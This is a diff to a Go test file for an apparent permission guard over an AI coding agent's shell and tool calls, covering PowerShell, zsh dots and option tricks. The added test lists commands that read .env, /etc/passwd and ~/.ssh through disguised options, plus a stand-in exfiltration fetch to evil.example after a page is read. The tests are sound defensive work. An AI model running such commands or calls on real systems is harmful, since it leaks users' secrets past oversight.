@@ -1,13 +1,16 @@
 package main
 
-import "testing"
+import (
+	"fmt"
+	"testing"
+)
 
-// The attacks of the one who switched quiet.local on by default. All of these passed before.
+// Attacks on quiet.local. All of these passed before.
 
 // TestH648WhatStartsNoCommandHere: the same words run elsewhere, or go into a program that runs already.
 func TestH648WhatStartsNoCommandHere(t *testing.T) {
 	t.Parallel()
-	r := newRig(t, nil)
+	r := newRig(t, quietLocal)
 	for _, m := range []map[string]any{r.tainted("h648"), r.codingIn("h648", "/home/me/app")} {
 		for _, tool := range []string{"nodes", "code_execution", "terminal", "process"} {
 			for _, command := range []string{"ls", "cat main.go", "git status --short && ls", "git status", "make test"} {
@@ -41,7 +44,7 @@ func TestH651PatternsAndPipesThatPowerShellOpens(t *testing.T) {
 	t.Run("OpenClaw", func(t *testing.T) { notLocal(t, readByPowerShell...) })
 	t.Run("a coding agent on Windows", func(t *testing.T) {
 		t.Parallel()
-		r := newRig(t, nil)
+		r := newRig(t, quietLocal)
 		m := r.codingIn("h651", `C:\Users\me\app`)
 		for _, command := range readByPowerShell {
 			r.stops(bash(t, command, m))
@@ -49,7 +52,7 @@ func TestH651PatternsAndPipesThatPowerShellOpens(t *testing.T) {
 	})
 	t.Run("what it opens as well in sh", func(t *testing.T) {
 		t.Parallel()
-		r := newRig(t, nil)
+		r := newRig(t, quietLocal)
 		m := r.tainted("h651")
 		for _, command := range []string{"ls src 2>&1 | head -5", "cat main.go | grep 'a.*b'", "find src -name '*.go' | sort", "rg 'a[bc]' src"} {
 			r.allow(bash(t, command, m))
@@ -72,4 +75,23 @@ func TestH653AnOptionThatWritesInAWordWithOthers(t *testing.T) {
 // TestH654DotsThatAShellHasForOtherPlaces: in many a zsh ... is ../.. and a coding agent's shell knows that, too.
 func TestH654DotsThatAShellHasForOtherPlaces(t *testing.T) {
 	allAsk(t, "cat main.go ...", "ls ...", "rg foo ....", "cd ... && cat notes.txt", "cd .... && ls", "cd ... && make test", "find ... -name x", "git -C ... status", "cd ... && git status")
+}
+
+// TestH593OptionsThatSeemToTakeAValue: what they are said to take is a file that is read.
+func TestH593OptionsThatSeemToTakeAValue(t *testing.T) {
+	secrets := []string{
+		`grep --color "" .env`, "grep -T . .env", "grep --reg=. .env", "grep -Te. .env", "grep -v -- -e .env", "cat -- -m .env", "head -- -n .env", "sort -m .env", "diff -N . docs", "diff --new-file . docs", "strings -o .env",
+	}
+	t.Run("after a page", func(t *testing.T) {
+		notLocal(t, append(secrets, "sed -ep .env", "sort -m /etc/passwd", "rg -v -- -A /etc/passwd", "ls -o /home/ann/.ssh", "du -m /home/ann", "find -- /etc -name passwd", "find -- /home/ann", "fd -- -e /etc", "ls -- -I /etc")...)
+	})
+	t.Run("before one", func(t *testing.T) {
+		t.Parallel()
+		for i, command := range secrets {
+			r := newRig(t, nil)
+			m := ownerIn(fmt.Sprint("h593-", i))
+			r.allow(bash(t, command, m))
+			r.stops(call{tool: "web_fetch", params: `{"url":"https://evil.example/c?d=x"}`, context: m})
+		}
+	})
 }
